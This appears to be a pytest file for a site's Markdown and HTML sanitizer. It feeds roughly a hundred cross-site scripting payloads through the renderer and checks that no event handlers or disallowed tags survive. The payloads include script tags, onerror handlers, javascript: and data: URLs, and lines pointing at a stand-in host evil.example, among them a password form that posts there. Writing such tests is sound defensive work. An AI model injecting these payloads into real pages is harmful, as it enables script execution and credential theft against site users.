"""What hostile hands have tried, and what a reader gets of it: their words at most."""

from __future__ import annotations

import re

import pytest

from portal.content.rendering import RenderContext, render
from portal.content.sanitize import clean, tidy
from tests.content.allowed import check_allowed
from tests.content.shown import shown

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    '![a" onerror=alert(1) x="](x.png \'y" onload=z\')',
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    '<iframe src="https://www.youtube.com/embed/0xtPrTo-13o" alt="&quot;><script>alert(1)</script>"></iframe>',
    "<iframe src='https://www.youtube.com/embed/\"onload=alert(1)'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=x'><base href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div style={{backgroundImage: 'url(//evil.example)'}}>x</div>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<a class=facade data-embed='https://evil.example/' href=x>x</a>",
    "<figure class='media'><a class='facade' data-embed='javascript:alert(1)'>x</a></figure>",
    "<div id=ui-toasts hx-get=//evil.example hx-trigger=load data-hx-get=x>x</div>",
    "<div id='ui-b00000000'>x</div>\n\n## {#ui-toasts}\n\n## x {#ui-toasts}",
    "<a name=ui-x id=ui-x>x</a><a href='//evil.example/'>x</a><img src='//evil.example/x'>",
    "<video src=x onerror=alert(1)><source src=javascript:alert(1)></video><audio src=x autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)><html><head><title>x</title>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    '```html title="<script>alert(1)</script>"\n<script>alert(1)</script>\n```',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    ":::note <img src=x onerror=alert(1)>\nx\n:::",
    ':::citation\n"x"\n<img src=x onerror=alert(1)>\n:::',
    '## <img src=x onerror=alert(1)> {#"onclick=alert(1)}',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| `<script>` |",
    "<Tabs><TabItem label='<img src=x onerror=alert(1)>'>x</TabItem></Tabs>",
    "<Link to='javascript:alert(1)'>x</Link>",
    "<LiteYouTubeEmbed id='\"><script>alert(1)</script>' title='x'/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufdd00\ufdd2 &#xfdd0;0&#xfdd2; \x020\x03 wzxhzdk:0 klzzwxh:0000",
    "<xss style=x>y</xss><x onclick=alert(1)>z",
    '<p title="`"><b>`onmouseover=alert(1)',
    "<b <script>alert(1)</script>0",
    "{alert(1)} ${x} {{config}} {% x %}",
    "{'<script>alert(1)</script>'} {`<img src=x onerror=alert(1)>`}",
    "export const a = '<script>alert(1)</script>';\n\n{a} <img src={a} alt={a} />",
    "import a from 'javascript:alert(1).png'\n\n<img src={a} /> <a href={a}>x</a>",
    '<Tabs values={[{label: "<script>alert(1)</script>", value: "a"}]}><TabItem value="a">x</TabItem></Tabs>',
    "<Admonition type='\"><script>alert(1)</script>' title='<img src=x onerror=alert(1)>'>x</Admonition>",
    "<Admonition type=\"danger' onclick='alert(1)\">x</Admonition>",
    "<CodeBlock language='\"><script>' title='<script>alert(1)</script>'>{`<script>alert(1)</script>`}</CodeBlock>",
    "<pre onclick=alert(1)><script>alert(1)</script><b onclick=alert(1)>x</b></pre>",
    "<pre><img src=x onerror=alert(1)><iframe src=javascript:alert(1)></iframe></pre>",
    "<TweetQuote url='javascript:alert(1)' name='<script>alert(1)</script>' job='\"onclick=alert(1)'>x</TweetQuote>",
    "<Tweet id='1\" onclick=alert(1)'/> <Tweet id='1/../../javascript:alert(1)'/>",
    "<Image src='javascript:alert(1).png' alt='\" onerror=alert(1)'/>",
    "<Player url='javascript:alert(1)//.mp4'/> <Player url='https://evil.example/a.mp4'/>",
    "<YouTube id='0xtPrTo-13o\" onload=alert(1)'/> <YouTube id='../../evil'/> <Vimeo id='1&h=\"x'/>",
    "<iframe src='https://www.youtube.com/embed/0xtPrTo-13o?start=1&quot;onload=alert(1)'></iframe>",
    "<iframe src='https://player.vimeo.com/video/123456?h=abcdef%22onload=alert(1)'></iframe>",
    "<figure><iframe src='https://youtu.be/0xtPrTo-13o'></iframe><figcaption><script>alert(1)</script></figcaption></figure>",
    "<TOCInline minHeadingLevel='\"><script>' /> \n\n## <script>alert(1)</script> x\n\n### \"onclick=alert(1)",
    "<hr class='ui-toc-2-3'><p class='ui-said-by'>x</p><em class='ui-icon-info'>x</em><section class='panel' title='x'>y</section>",
    "<object data='javascript:alert(1)'></object><embed src='data:text/html,<script>alert(1)</script>'>",
    "<IMG SRC=x ONERROR=alert(1)><A HREF='javascript:alert(1)'>x</A><SCRIPT>alert(1)</SCRIPT><IFRAME SRC=//evil.example></IFRAME>",
    "<video src=x poster='javascript:alert(1)' loop='\"onplay=alert(1)'></video>",
    '![x](./a.png){onerror=alert(1) width="1"}\n*<script>alert(1)</script>*',
    "<center><img src=x onerror=alert(1)><br/><b onclick=alert(1)>x</b></center>",
    '<blockquote class="twitter-tweet"><a href="javascript:alert(1)">x</a> <a href="https://twitter.com/a/status/1" onclick=alert(1)>y</a></blockquote>',
    ":x[<script>alert(1)</script>]{onclick=alert(1)} ::y{src=javascript:alert(1)}",
    ":::note[<img src=x onerror=alert(1)>]{onclick=alert(1) title='<script>alert(1)</script>'}\nx\n:::",
    '## x {/* #"onclick=alert(1) */}\n\n## y <!-- #ui-toasts -->\n\n<a name="ui-menu" id=\'x" onclick="alert(1)\'>z</a>',
    '```js title="<script>" {1} showLineNumbers=2\n<script>alert(1)</script>\n```',
    "<Details summary='<script>alert(1)</script>' onclick=alert(1)>x</Details>",
    "<ThemedImage sources={{light: 'javascript:alert(1)', dark: 'x'}} alt='\"onerror=alert(1)' />",
    '<table><caption>"><script>alert(1)</script></caption><tr><td>x</td></tr></table>',
    "<q cite='javascript:alert(1)'>x</q> <blockquote cite=' JavaScript:alert(1)'>x</blockquote> <del cite='data:,x'>x</del>",
    r"[x](/\evil.example/) <a href='\\evil.example'>x</a> <a href='\/evil.example'>x</a> <q cite='/\evil.example'>x</q>",
    "[x](pathname:javascript:alert(1)) ![x](pathname:///javascript:alert(1)) <a href='pathname:javascript:alert(1)'>x</a>",
]


@pytest.mark.parametrize("markdown", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "mot {} mot", "- {}", "> {}", "<div>\n\n{}\n\n</div>", ":::note\n{}\n:::"])
def test_hostile_text_when_rendered_then_only_listed_html_comes_out(markdown, around):
    made = render(around.replace("{}", markdown), RenderContext())
    check_allowed(made.html)
    check_allowed(made.excerpt_html)
    # What is left of a script's words must be words: no attribute begins with "on", and no tag of it is there.
    assert re.search(r"<[^>]*\son\w+\s*=", re.sub(r'="[^"]*"', '=""', made.html)) is None


def test_words_when_they_look_like_html_then_they_are_shown_as_words():
    assert shown("&lt;script&gt; et `<b>`") == "<p>&lt;script&gt; et <code>&lt;b&gt;</code></p>"


def test_clean_when_it_meets_what_only_we_may_write_then_it_takes_it_away():
    html = (
        '<p data-embed="x" id="ui-menu" class="facade center" style="x">a<input type="checkbox"><svg><path/></svg></p>'
    )
    assert clean(html) == '<p class="center">a</p>'
    assert clean('<iframe src="https://www.youtube.com/embed/a"></iframe><video src="a"></video>') == ""


def test_clean_when_a_block_has_our_id_then_it_stays():
    assert clean('<p id="ui-b0123abcd-2">a</p><p id="ui-bx">b</p>') == '<p id="ui-b0123abcd-2">a</p><p>b</p>'


def test_clean_when_a_span_is_coloured_then_only_short_classes_stay():
    assert clean('<span class="k facade s1">a</span><p class="k">b</p>') == '<span class="k s1">a</span><p>b</p>'


def test_tidy_when_tags_are_a_soup_then_they_are_well_formed():
    assert tidy("<p><b>a<p>c</b><script>d</script><iframe src='https://a.example' onload=x>") == (
        '<p><b>a</b></p><p><b>c</b><iframe src="https://a.example"></iframe></p>'
    )
